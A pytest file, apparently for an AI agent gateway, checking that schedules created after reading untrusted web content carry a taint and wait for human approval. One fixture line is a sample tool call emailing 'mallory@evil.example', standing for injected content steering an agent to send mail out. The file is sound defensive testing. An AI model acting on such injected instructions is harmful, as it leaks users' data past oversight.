"""Schedules that a model makes after reading what strangers wrote: a human decides, and each run has read it too."""

import json
from typing import Any

import pytest
from django.db import transaction

from gateway.schedules import firing
from tenants.models import Tenant
from tenants.scope.routing import on_login
from tests.approvals.api import decide
from tests.approvals.rules import make_rule
from tests.database import rows
from tests.people import Cast
from tests.schedules.rows import change, drive, make_schedule, schedule, slots
from tests.stack import Stack
from tests.waiting import until

WEB = 'call: web_search {"query": "milk"}'
SCHEDULE = 'call: schedule {"cron": "0 9 * * *", "tz": "UTC", "content": "Hello"}'
MAIL = 'call: send_email {"to": "mallory@evil.example", "subject": "Hi", "body": "Text"}'


def _made(tenant: Cast) -> list[dict[str, Any]]:
    return rows("SELECT * FROM schedules WHERE tenant_id = %(t)s", t=tenant.id)


def _says(tenant: Cast, mode: str) -> None:
    with on_login("operator"), transaction.atomic(using="operator"):
        Tenant.objects.filter(id=tenant.id).update(taint=mode)


def test_after_reading_what_strangers_wrote_a_schedule_waits_for_a_human(stack: Stack, tenant: Cast) -> None:
    body = stack.chat(tenant.alice, "\n".join([WEB, "then:", SCHEDULE])).json()
    assert body["status"] == "requires_action"
    assert _made(tenant) == []
    [call] = rows(
        "SELECT tier, status, decision FROM tool_calls WHERE run_id = %(r)s AND tool_name = 'schedule'",
        r=body["run_id"],
    )
    [held] = [answer for answer in call["decision"] if answer.get("holds")]
    [web] = body["tool_calls"][:1]
    [source] = held["facts"]["sources"]
    assert (source["source"], source["label"], source["call"]) == ("web_search", "untrusted", web["id"])
    assert (call["tier"], call["status"]) == ("elevated", "awaiting_approval")
    [approval] = body["required_action"]["approvals"]
    [asked] = rows("SELECT why FROM approval_requests WHERE id = %(a)s", a=approval["id"])
    assert "since this session has read what strangers wrote (web_search, " in asked["why"]
    decide(stack, tenant.carol, approval["id"], "approve")
    [made] = until(lambda: _made(tenant))
    assert made["taint"] == ["untrusted"]


@pytest.mark.parametrize("mode", ["off", "observe"])
def test_where_the_tenant_holds_nothing_by_what_was_read_it_is_made_and_remembers_it(
    stack: Stack, tenant: Cast, mode: str
) -> None:
    _says(tenant, mode)
    assert stack.chat(tenant.alice, "\n".join([WEB, "then:", SCHEDULE])).json()["status"] == "completed"
    assert [made["taint"] for made in _made(tenant)] == [["untrusted"]]


def test_a_clean_conversation_makes_a_schedule_at_once_whose_runs_have_read_nothing(stack: Stack, tenant: Cast) -> None:
    assert stack.chat(tenant.alice, SCHEDULE).json()["status"] == "completed"
    assert [made["taint"] for made in _made(tenant)] == [[]]


async def test_a_run_of_a_tainted_schedule_has_read_it_too(tenant: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    async def ask(*given: object) -> None:
        pass

    monkeypatch.setattr(firing, "request_takeover", ask)
    tainted, clean = make_schedule(tenant.alice), make_schedule(tenant.bob)
    change("UPDATE schedules SET taint = '{private,untrusted}' WHERE id = %s", tainted)
    await firing.fire(tenant.alice.scope, tainted)
    await firing.fire(tenant.bob.scope, clean)
    read = "SELECT label, source, run_id FROM taint_sources WHERE tenant_id = %(t)s ORDER BY label"
    [slot] = slots(tainted)
    assert [(row["label"], row["source"], row["run_id"]) for row in rows(read, t=tenant.id)] == [
        ("private", "schedule", slot["run_id"]),
        ("untrusted", "schedule", slot["run_id"]),
    ]
    assert slots(clean)[0]["status"] == "begun"


@pytest.mark.parametrize(("taint", "status"), [("{private}", "success"), ("{untrusted}", "awaiting_approval")])
def test_an_address_in_a_tainted_schedule_is_not_the_users_own_word(
    stack: Stack, tenant: Cast, taint: str, status: str
) -> None:
    make_rule(tenant)
    made = make_schedule(
        tenant.alice,
        content="\n".join(['call: search_notes {"query": "milk"}', WEB, "then:", MAIL]),
        next_at="tomorrow",
    )
    change("UPDATE schedules SET taint = %s WHERE id = %s", taint, made)
    stack.chat(tenant.alice, f'call: run_schedule {{"schedule_id": "{made}"}}')
    [slot] = slots(made)
    mail = "SELECT status FROM tool_calls WHERE run_id = %(r)s AND tool_name = 'send_email'"
    drive(slot["run_id"], lambda: [row["status"] for row in rows(mail, r=slot["run_id"])] == [status])


def test_listing_a_tainted_schedule_reads_what_it_remembers(stack: Stack, tenant: Cast) -> None:
    made = make_schedule(tenant.alice, next_at="tomorrow")
    change("UPDATE schedules SET taint = '{untrusted}' WHERE id = %s", made)
    body = stack.chat(tenant.alice, "call: list_schedules {}").json()
    assert "taint" not in json.dumps(body["tool_calls"][0]["output"])
    read = "SELECT label FROM taint_sources WHERE conversation_id = %(c)s ORDER BY label"
    assert [row["label"] for row in rows(read, c=body["conversation_id"])] == ["private", "untrusted"]
    assert schedule(made)["taint"] == ["untrusted"]
